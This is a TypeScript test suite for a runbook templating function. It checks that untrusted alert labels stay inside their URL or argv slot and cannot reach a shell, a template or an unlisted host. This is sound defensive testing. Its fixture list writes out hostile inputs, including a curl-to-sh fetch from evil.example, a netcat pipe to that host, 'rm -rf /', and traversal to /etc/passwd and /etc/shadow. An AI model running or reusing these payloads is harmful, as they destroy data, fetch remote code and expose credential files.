// Alert labels are untrusted: hostile values never reach a shell, a template or an unlisted host. With
// a strict pattern they are refused; even with a pattern that accepts anything, the fixed guards and
// the encoding keep each value inside its one slot.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { RunbookAction } from './runbook-types.js';
import { joinUrl, renderAction } from './template.js';
import { parseRemediationConfig, Targets } from './targets.js';
import { compactAction, INDEX_PATTERN } from './test-support/fixtures.js';

const config = parseRemediationConfig({
  allowHosts: ['search-admin.internal'],
  targets: { 'search-admin': { url: 'https://search-admin.internal:8443/admin' } },
  commands: { allow: ['/usr/local/bin/indexctl'] },
});
if (!config.ok) throw new Error(JSON.stringify(config.problems));
const targets = new Targets(config.value, { env: {} });

const ANYTHING = '^[\\s\\S]*$';
const permissiveHttp = compactAction({ params: { index: { label: 'index', pattern: ANYTHING } } });
const strictHttp = compactAction();
const command = (pattern: string): RunbookAction =>
  compactAction({
    spec: { kind: 'command', argv: ['/usr/local/bin/indexctl', 'compact', '--index', '{index}'] },
    params: { index: { label: 'index', pattern } },
  });

const HOSTILE: Array<[string, string]> = [
  ['shell separator', '; rm -rf / #'],
  ['command substitution', '$(curl http://evil.example | sh)'],
  ['backticks', '`id`'],
  ['pipe', 'x | nc evil.example 4444'],
  ['path traversal', '../../etc/passwd'],
  ['dot dot', '..'],
  ['dot', '.'],
  ['encoded traversal', '%2e%2e'],
  ['CRLF header injection', 'x\r\nX-Injected: 1'],
  ['newline', 'a\nb'],
  ['NUL', 'a\u0000b'],
  ['very long', 'x'.repeat(10_000)],
  ['absolute URL', 'http://evil.example/steal'],
  ['scheme-relative URL', '//evil.example/x'],
  ['userinfo', '@evil.example'],
  ['query and fragment', 'x?y=1#z'],
  ['Go template', '{{ .CommonLabels }}'],
  ['slot', '{index}'],
  ['shell variable', '${PATH}'],
  ['option', '--config=/etc/shadow'],
  ['backslash', '..\\..\\windows'],
];

describe('renderAction with a strict pattern', () => {
  it.each(HOSTILE)('refuses a label with %s', (_name, value) => {
    for (const action of [strictHttp, command(INDEX_PATTERN)]) {
      const result = renderAction(action, { index: value }, targets);
      expect(result.ok).toBe(false);
      if (result.ok) continue;
      expect(result.code).toBe('template_rejected');
      expect(result.problems).toHaveLength(1);
      // Messages quote an escaped, bounded excerpt: no raw control characters, no 10 000 characters.
      expect(result.message).not.toMatch(/[\r\n]/);
      expect(result.message).not.toContain('\u0000');
      expect(result.message.length).toBeLessThan(300);
    }
  });

  it('fills a good value: URL-encoded in the path, whole in the body', () => {
    const result = renderAction(strictHttp, { index: 'products-v3', alertname: 'X' }, targets);
    expect(result).toEqual({
      ok: true,
      params: { index: 'products-v3' },
      value: {
        kind: 'http',
        target: 'search-admin',
        method: 'POST',
        url: 'https://search-admin.internal:8443/admin/indexes/products-v3/compact',
        body: { index: 'products-v3', mode: 'full' },
      },
    });
  });

  it('names the missing label', () => {
    expect(renderAction(strictHttp, { alertname: 'X' }, targets)).toMatchObject({
      ok: false,
      problems: [{ param: 'index', label: 'index', message: 'the alert has no label index' }],
    });
  });
});

describe('renderAction with a pattern that accepts anything', () => {
  it.each(HOSTILE)('keeps a label with %s inside its slot (or refuses it)', (_name, value) => {
    const http = renderAction(permissiveHttp, { index: value }, targets);
    if (http.ok && http.value.kind === 'http') {
      const url = new URL(http.value.url);
      expect(url.origin).toBe('https://search-admin.internal:8443');
      const segments = url.pathname.split('/');
      expect(segments).toHaveLength(5);
      expect(segments.slice(0, 3)).toEqual(['', 'admin', 'indexes']);
      expect(segments[4]).toBe('compact');
      expect(decodeURIComponent(segments[3]!)).toBe(value);
      expect(url.search).toBe('');
      expect(url.hash).toBe('');
      // The body gets the value as one JSON string, never re-read for slots.
      expect(http.value.body).toEqual({ index: value, mode: 'full' });
    } else {
      expect(http).toMatchObject({ ok: false, code: 'template_rejected' });
    }

    const argv = renderAction(command(ANYTHING), { index: value }, targets);
    if (argv.ok && argv.value.kind === 'command') {
      expect(argv.value.argv).toEqual(['/usr/local/bin/indexctl', 'compact', '--index', value]);
    } else {
      expect(argv).toMatchObject({ ok: false, code: 'template_rejected' });
    }
  });

  it('refuses control characters, dot segments, options and long values whatever the pattern', () => {
    const refused = (action: RunbookAction, value: string) =>
      !renderAction(action, { index: value }, targets).ok;
    expect(refused(permissiveHttp, 'a\r\nb')).toBe(true);
    expect(refused(permissiveHttp, '..')).toBe(true);
    expect(refused(permissiveHttp, 'x'.repeat(257))).toBe(true);
    expect(refused(command(ANYTHING), '--force')).toBe(true);
    expect(refused(command(ANYTHING), '-rf')).toBe(true);
    expect(refused(permissiveHttp, '')).toBe(true);
  });

  it('keeps every value inside its slot (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (value) => {
        const result = renderAction(permissiveHttp, { index: value }, targets);
        if (!result.ok) return;
        const url = new URL((result.value as { url: string }).url);
        expect(url.host).toBe('search-admin.internal:8443');
        const segments = url.pathname.split('/');
        expect(segments).toHaveLength(5);
        expect(decodeURIComponent(segments[3]!)).toBe(value);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('renderAction and the configuration', () => {
  it('refuses a target that is not configured, and a program not allowed', () => {
    const unknown = compactAction({
      spec: { kind: 'http', target: 'billing', method: 'POST', path: '/x' },
      params: {},
    });
    expect(renderAction(unknown, {}, targets)).toMatchObject({ ok: false, code: 'unknown_target' });
    const shell = compactAction({ spec: { kind: 'command', argv: ['/bin/sh', '-c', 'echo {index}'] } });
    expect(renderAction(shell, { index: 'a' }, targets)).toMatchObject({
      ok: false,
      code: 'command_not_allowed',
    });
  });

  it('refuses a slot that is only part of an argument or a body string', () => {
    const partialArg = compactAction({
      spec: { kind: 'command', argv: ['/usr/local/bin/indexctl', '--index={index}'] },
    });
    expect(renderAction(partialArg, { index: 'a' }, targets)).toMatchObject({
      ok: false,
      code: 'invalid_action',
    });
    const partialBody = compactAction({
      spec: {
        kind: 'http',
        target: 'search-admin',
        method: 'POST',
        path: '/x',
        body: { note: 'compact {index} now' },
      },
    });
    expect(renderAction(partialBody, { index: 'a' }, targets)).toMatchObject({
      ok: false,
      code: 'invalid_action',
    });
  });

  it('leaves braces that name no param as literal text', () => {
    const literal = compactAction({
      spec: {
        kind: 'http',
        target: 'search-admin',
        method: 'POST',
        path: '/x',
        body: { q: '{not_a_param}' },
      },
      params: {},
    });
    expect(renderAction(literal, {}, targets)).toMatchObject({
      ok: true,
      value: { body: { q: '{not_a_param}' } },
    });
  });
});

describe('joinUrl', () => {
  const base = new URL('https://h.internal:8443/admin/');
  it.each([
    ['/indexes/a/compact', 'https://h.internal:8443/admin/indexes/a/compact'],
    ['indexes/a', 'https://h.internal:8443/admin/indexes/a'],
    ['/x?mode=full&i=a%2Fb', 'https://h.internal:8443/admin/x?mode=full&i=a%2Fb'],
  ])('joins %s under the base', (relative, expected) => {
    expect(joinUrl(base, relative)?.href).toBe(expected);
  });
  it.each(['/../secret', '/a/../../b', '/./a', '\\evil', '/a#frag'])(
    'refuses %s, which would leave or rewrite the path',
    (relative) => {
      expect(joinUrl(base, relative)).toBeUndefined();
    },
  );
});
